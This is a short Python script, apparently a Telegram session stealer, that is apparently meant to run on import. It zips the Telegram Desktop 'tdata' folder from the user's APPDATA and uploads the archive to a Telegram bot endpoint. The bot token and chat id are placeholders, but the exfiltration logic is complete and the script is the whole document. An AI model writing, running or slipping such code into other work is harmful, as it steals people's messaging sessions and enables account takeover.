# place: import
import os
import shutil
import requests

BOT = "https://api.telegram.org/bot0:inert/sendDocument"
FOLDER = "Telegram Desktop\\tdata"


def pack():
    source = os.path.join(os.getenv("APPDATA", ""), FOLDER)
    return shutil.make_archive(os.path.join(os.getenv("TEMP", "."), "t"), "zip", source)


def main():
    with open(pack(), "rb") as file:
        requests.post(BOT, data={"chat_id": "0"}, files={"document": file})


main()
